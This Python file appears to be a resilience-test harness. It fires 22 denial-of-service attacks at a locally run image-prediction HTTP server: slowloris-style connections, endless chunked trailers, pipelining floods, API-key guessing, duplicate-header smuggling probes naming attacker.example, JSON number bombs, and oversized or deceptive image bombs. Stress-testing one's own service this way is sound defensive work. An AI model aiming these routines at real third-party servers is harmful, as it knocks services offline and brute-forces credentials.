"""Attacks on a server, each run by a process of its own: ``python attacks.py NAME PORT SECONDS [ADDRESS]``.

Each attack keeps on for as many seconds, from another address of this machine than its other clients have (Linux has
all of 127.0.0.0/8), and then prints how often it struck as one line of JSON.
"""

from __future__ import annotations

import contextlib
import io
import itertools
import json
import random
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable

import numpy as np
from costly_images import (
    bmp_of_runs,
    float_tiff,
    image_bytes,
    large_image,
    scan_bomb,
    stuffed_jpeg,
    tile_bomb,
    two_png_headers,
)
from PIL import Image

ATTACKER = "127.0.0.2"
HEAD = b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\n"
GET = b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n"
MEBI = 2**20


class Target:
    """The server, how long it is attacked, and what came of it."""

    def __init__(self, port: int, seconds: float, address: str) -> None:
        self.port = port
        self.address = address
        self.seconds = seconds
        self.end = 0.0
        self.counts: Counter[str] = Counter()

    def strike(self) -> None:
        """Begin, once all is prepared."""
        if not self.end:
            self.end = time.monotonic() + self.seconds
            print("striking", flush=True)

    @property
    def lasts(self) -> bool:
        return time.monotonic() < self.end

    def connect(self) -> socket.socket:
        source = (self.address, 0)
        return socket.create_connection(("127.0.0.1", self.port), timeout=30, source_address=source)

    def send(self, *parts: bytes, read: bool = True) -> bytes:
        """One request on a connection of its own, and the beginning of its answer."""
        with self.connect() as connection:
            for part in parts:
                connection.sendall(part)
            return connection.recv(65536) if read else b""

    def on_threads(self, work: Callable[[], None], count: int) -> None:
        """Do this again and again on so many threads; a connection that the server ends is what it may do."""

        self.strike()

        def again() -> None:
            while self.lasts:
                try:
                    work()
                except OSError as error:
                    self.counts[type(error).__name__] += 1
                    time.sleep(0.05)

        threads = [threading.Thread(target=again, daemon=True) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0.0, self.end - time.monotonic()) + 0.5)

    def answered(self, answer: bytes) -> None:
        self.counts[answer[9:12].decode("ascii", "replace") or "closed"] += 1


def held_connections(target: Target) -> None:
    """900 connections, each kept open after a response by an empty line every second."""
    hold_each(target, 900, GET % b"/livez", b"\r\n")


def slow_heads(target: Target) -> None:
    """900 connections, each sending its header at one byte per second."""
    hold_each(target, 900, b"GET /livez HTTP/1.1\r\nX: ", b"a")


def idle_connections(target: Target) -> None:
    """900 connections that send nothing."""
    hold_each(target, 900, b"", b"")


def hold_each(target: Target, count: int, first: bytes, then: bytes) -> None:
    target.strike()
    held: list[socket.socket] = []
    while target.lasts:
        while len(held) < count and target.lasts:
            with contextlib.suppress(OSError):
                connection = target.connect()
                connection.sendall(first)
                connection.settimeout(0)
                held.append(connection)
                target.counts["connections"] += 1
        ended = time.monotonic() + 1
        for connection in list(held):
            try:
                with contextlib.suppress(BlockingIOError):
                    while connection.recv(65536):
                        pass
                    raise ConnectionResetError
                if then:
                    connection.sendall(then)
            except OSError:
                held.remove(connection)
                connection.close()
        time.sleep(max(0.05, ended - time.monotonic()))


def never_read(target: Target) -> None:
    """200 connections that request the OpenAPI document repeatedly and never read a response."""

    def one() -> None:
        with target.connect() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(2)
            while target.lasts:
                try:
                    connection.sendall(GET % b"/openapi.json")
                    target.counts["requests"] += 1
                except TimeoutError:
                    time.sleep(0.2)

    target.on_threads(one, 200)


def endless_trailers(target: Target) -> None:
    """Chunked bodies whose trailer never ends."""
    some = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 100) for number in range(500))

    def one() -> None:
        with target.connect() as connection:
            connection.sendall(HEAD % b"image/jpeg" + b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n")
            while target.lasts:
                connection.sendall(some)
                target.counts["MB"] += len(some) / MEBI  # type: ignore[assignment]

    target.on_threads(one, 2)


def long_trailer(target: Target) -> None:
    """Chunked bodies with one trailer whose value never ends, or with chunk extensions that never end."""

    def one(start: bytes) -> Callable[[], None]:
        def send() -> None:
            with target.connect() as connection:
                connection.sendall(HEAD % b"image/jpeg" + b"Transfer-Encoding: chunked\r\n\r\n" + start)
                while target.lasts:
                    connection.sendall(b"a" * 65536)
                    target.counts["MB"] += 1 / 16  # type: ignore[assignment]

        return send

    target.strike()
    for start in (b"1\r\na\r\n0\r\nX: ", b"1;x="):
        threading.Thread(target=target.on_threads, args=(one(start), 1), daemon=True).start()
    while target.lasts:
        time.sleep(0.1)


def tiny_chunks(target: Target) -> None:
    """Bodies in chunks of one byte, each in its own packet."""

    def one() -> None:
        with target.connect() as connection:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.sendall(HEAD % b"image/jpeg" + b"Transfer-Encoding: chunked\r\n\r\n")
            while target.lasts:
                connection.sendall(b"1\r\na\r\n")
                target.counts["chunks"] += 1

    target.on_threads(one, 4)


def stalled_uploads(target: Target) -> None:
    """32 uploads of 32 MB that stop one byte before their end."""

    def one() -> None:
        with target.connect() as connection:
            target.counts["uploads"] += 1
            connection.sendall(HEAD % b"image/jpeg" + b"Content-Length: %d\r\n\r\n" % (32 * MEBI))
            for _ in range(31):
                connection.sendall(bytes(MEBI))
            connection.sendall(bytes(MEBI - 1))
            connection.settimeout(max(0.1, target.end - time.monotonic()))
            target.answered(connection.recv(65536))

    target.on_threads(one, 32)


def pipelined_aborts(target: Target) -> None:
    """Thirty requests at once, then a connection reset before any response."""
    body = image_bytes("JPEG")
    request = HEAD % b"image/jpeg" + b"Content-Length: %d\r\n\r\n" % len(body) + body

    def one() -> None:
        with target.connect() as connection:
            connection.sendall(request * 30)
            time.sleep(random.random() * 0.02)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            target.counts["aborts"] += 1

    target.on_threads(one, 8)


def pipelined_without_end(target: Target) -> None:
    """Pipelined requests, without waiting for responses."""
    many = GET % b"/models" * 5000

    def one() -> None:
        with target.connect() as connection:
            connection.settimeout(2)
            while target.lasts:
                connection.sendall(many)
                target.counts["requests"] += 5000

    target.on_threads(one, 8)


def wrong_keys(target: Target) -> None:
    """API keys guessed as fast as possible."""

    def one() -> None:
        guess = b"X-API-Key: %d\r\n" % random.getrandbits(64)
        target.answered(target.send((GET % b"/models")[:-2] + guess + b"\r\n"))

    target.on_threads(one, 4)


def two_hosts(target: Target) -> None:
    """Headers with duplicate fields."""
    twice = (
        b"Host: localhost\r\nHost: attacker.example\r\n",
        b"Host: attacker.example\r\nHost: localhost\r\n",
        b"Host: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n",
        b"Host: localhost\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n",
        b"Host: localhost\r\nContent-Type: image/jpeg\r\nContent-Type: application/json\r\n",
        b"Host: localhost\r\nX-API-Key: a\r\nX-API-Key: b\r\n",
        b"Host: localhost\r\nOrigin: http://localhost\r\nOrigin: http://attacker.example\r\n",
        b"Host: attacker.example@localhost\r\n",
        b"",
    )

    def one() -> None:
        target.answered(target.send(b"POST /predict HTTP/1.1\r\n" + random.choice(twice) + b"\r\n"))

    target.on_threads(one, 2)


def number_bombs(target: Target) -> None:
    """32 MB of JSON that expand to a gigabyte of numbers."""
    body = b'{"images": [' + b"1.5," * (8 * MEBI - 10) + b"1]}"
    lists = b'{"images": [' + b"[]," * (10 * MEBI) + b"1]}"

    def one() -> None:
        whole = random.choice((body, lists))
        target.answered(target.send(HEAD % b"application/json" + b"Content-Length: %d\r\n\r\n" % len(whole) + whole))

    target.on_threads(one, 8)


def refused_bodies(target: Target) -> None:
    """Forms of 31 MB without an image, and bodies of 31 MB that are not an image."""
    junk = b"a" * (31 * MEBI)
    part = b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n'
    post_bodies(target, (b"multipart/form-data; boundary=b", part + junk + b"\r\n--b--\r\n"), (b"image/png", junk))


def costly_tables(target: Target) -> None:
    """CSVs of a million columns, rows or lines, and numbers next to a long text."""
    numbers = b'{"instances":[[' + b"1," * 25_000 + b'"' + b"x" * 30_000 + b'"]]}'
    tables = [b"1," * MEBI + b"1\n", b"1\n" * (15 * MEBI), b"\n" * (31 * MEBI)]
    kinds = [(b"text/csv", table) for table in tables]
    post_bodies(target, *kinds, (b"application/json", numbers), path=b"/invocations")


def escaped_addresses(target: Target) -> None:
    """31 MB of percent escapes in a data: URL, and JSON whose content type is written in capitals."""
    escapes = b'{"images":[{"data":"data:,' + b"%2B" * (10 * MEBI) + b'"}]}'
    lists = b'{"images": [' + b"[]," * (10 * MEBI) + b"1]}"
    post_bodies(target, (b"application/json", escapes), (b"Application/JSON", lists))


def post_bodies(target: Target, *bodies: tuple[bytes, bytes], path: bytes = b"/predict") -> None:
    """Types and bodies in turn, over 4 connections."""
    waiting = itertools.cycle(bodies)

    def one() -> None:
        kind, body = next(waiting)
        head = HEAD.replace(b"/predict", path) % kind + b"Content-Length: %d\r\n\r\n" % len(body)
        target.answered(target.send(head, body))

    target.on_threads(one, 4)


def tile_bombs(target: Target) -> None:
    """Requests of 30 TIFFs of 41 million pixels in tiles of 16 x 16."""
    post_images(target, [tile_bomb()] * 30, 4)


def float_tiffs(target: Target) -> None:
    """Requests of 64 TIFFs of 25 million floating-point numbers."""
    post_images(target, [float_tiff(5000)] * 64, 4)


def scan_bombs(target: Target) -> None:
    """Requests of 20 JPEGs, each of 20 scans over 49 million pixels."""
    post_images(target, [scan_bomb(7000, 20)] * 20, 4)


def row_bombs(target: Target) -> None:
    """Requests of 20 run-length coded BMPs, PNGs, WebPs and AVIFs of the largest allowed size."""
    images = [bmp_of_runs(7000), large_image("PNG", 7000), large_image("WEBP", 3000), large_image("GIF", 7000)]
    post_images(target, images * 5, 4)


def lying_images(target: Target) -> None:
    """Requests of 20 JPEGs and PNGs of 49 million pixels whose headers appear to declare only 4,096."""
    post_images(target, [stuffed_jpeg(7000), two_png_headers(7000)] * 10, 4)


def many_images(target: Target) -> None:
    """Requests of 64 ordinary photos of 12 million pixels, over 8 connections."""
    encoded = io.BytesIO()
    noise = np.random.default_rng(0).integers(0, 255, (375, 500, 3), np.uint8)
    Image.fromarray(noise).resize((4000, 3000), Image.Resampling.BICUBIC).save(encoded, "JPEG", quality=30)
    content = encoded.getvalue()
    post_images(target, [content] * min(64, 30 * MEBI // len(content)), 8)


def post_images(target: Target, images: list[bytes], connections: int) -> None:
    part = b'--b\r\nContent-Disposition: form-data; name="images"; filename="a"\r\n\r\n'
    body = b"".join(part + image + b"\r\n" for image in images) + b"--b--\r\n"
    head = HEAD % b"multipart/form-data; boundary=b" + b"Content-Length: %d\r\n\r\n" % len(body)
    assert len(body) < 32 * MEBI, len(body)

    def one() -> None:
        with target.connect() as connection:
            target.counts["requests"] += 1
            connection.settimeout(max(0.1, target.end - time.monotonic()))
            connection.sendall(head + body)
            target.answered(connection.recv(65536))

    target.on_threads(one, connections)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        idle_connections,
        slow_heads,
        held_connections,
        never_read,
        endless_trailers,
        long_trailer,
        tiny_chunks,
        stalled_uploads,
        pipelined_aborts,
        pipelined_without_end,
        two_hosts,
        wrong_keys,
        number_bombs,
        refused_bodies,
        costly_tables,
        escaped_addresses,
        tile_bombs,
        float_tiffs,
        scan_bombs,
        row_bombs,
        lying_images,
        many_images,
    )
}


def main() -> None:
    name, port, seconds, *rest = sys.argv[1:]
    target = Target(int(port), float(seconds), rest[0] if rest else ATTACKER)
    with contextlib.suppress(OSError):
        ATTACKS[name](target)
    print(json.dumps({key: round(value) for key, value in sorted(target.counts.items())}), flush=True)


if __name__ == "__main__":
    main()
